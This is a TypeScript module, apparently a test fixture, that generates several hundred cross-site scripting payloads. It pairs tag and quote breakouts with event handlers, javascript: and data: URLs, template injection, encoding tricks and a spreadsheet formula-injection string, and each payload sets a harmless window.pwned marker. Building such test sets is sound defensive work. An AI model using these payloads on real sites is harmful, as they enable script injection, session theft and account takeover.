/**
 * Some 500 strings that run a script where a page takes text for markup, for an attribute, for an address or for code. Each
 * sets `pwned`. Made of how to get out of what one is in, and what to run then.
 */
const RUN = 'window.pwned=1';
const CODED = `eval(atob('${Buffer.from(RUN).toString('base64')}'))`;

const OUT_OF = [
  '',
  '">',
  "'>",
  '</textarea>',
  '</title>',
  '</style>',
  '</script>',
  '-->',
  ']]>',
  '</svg>',
  '</template>',
  '<b ',
  '`>',
];

const MARKUP = [
  `<script>${RUN}</script>`,
  `<ScRiPt >${RUN}</sCrIpT>`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src=x onerror=${CODED}>`,
  `<img/src='x'/onerror='${RUN}'>`,
  `<svg onload="${RUN}">`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror="${RUN}">`,
  `<body onload="${RUN}">`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<iframe src="javascript:parent.pwned=1"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<details open ontoggle="${RUN}">`,
  `<input autofocus onfocus="${RUN}">`,
  `<select autofocus onfocus="${RUN}">`,
  `<video><source onerror="${RUN}"></video>`,
  `<audio src onerror="${RUN}">`,
  `<marquee onstart="${RUN}">`,
  `<a href="javascript:${RUN}" autofocus onfocus="${RUN}">x</a>`,
  `<form action="javascript:${RUN}"><button autofocus onfocus="${RUN}">`,
  `<link rel=stylesheet href="data:text/css,*{}" onload="${RUN}">`,
  `<style onload="${RUN}">*{color:red}</style>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<base href="https://evil.example/">`,
  `<template><script>${RUN}</script></template><p onpointerrawupdate="${RUN}">`,
  `<x onclick="${RUN}" onmouseover="${RUN}" style="position:fixed;inset:0;z-index:99">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
];

const ATTRIBUTES = ['"', "'", '` ', '" x="', ''].flatMap((quote) =>
  ['onerror', 'onload', 'onfocus', 'onmouseover', 'onanimationstart'].map(
    (name) => `${quote} ${name}=${RUN} autofocus `,
  ),
);

const ADDRESSES = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  'java\tscript:',
  'java\nscript:',
  '\u0001javascript:',
  'javascript://x%0a',
  'data:text/html,<script>',
  'vbscript:',
  'view-source:javascript:',
  '//evil.example/',
  'https://evil.example/x?',
  'blob:',
].map((scheme) => `${scheme}${RUN}`);

const CODE = [
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `#{${RUN}}`,
  `<%= ${RUN} %>`,
  `';${RUN}//`,
  `";${RUN}//`,
  `\\";${RUN}//`,
  `</script><script>${RUN}//`,
  `\u2028${RUN}`,
  `{"__html":"<img src=x onerror=${RUN}>"}`,
  `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${RUN}>"}}`,
  '__proto__',
  'constructor',
  '%3Cscript%3Ewindow.pwned=1%3C/script%3E',
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `\u003cimg src=x onerror=${RUN}\u003e`,
  `\u202e<img src=x onerror=${RUN}>\u202c`,
  `\u0000<script>${RUN}</script>`,
  `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `=cmd|' /C calc'!A1`,
  `url(javascript:${RUN})`,
  `expression(${RUN})`,
  '\ud83d',
];

export const PAYLOADS: readonly string[] = [
  ...OUT_OF.flatMap((out) => MARKUP.map((markup) => out + markup)),
  ...ATTRIBUTES,
  ...ADDRESSES,
  ...CODE,
  ...ADDRESSES.map((address) => `<a href="${address}" id=x>`),
  ...ADDRESSES.map((address) => `"><iframe src="${address}">`),
];
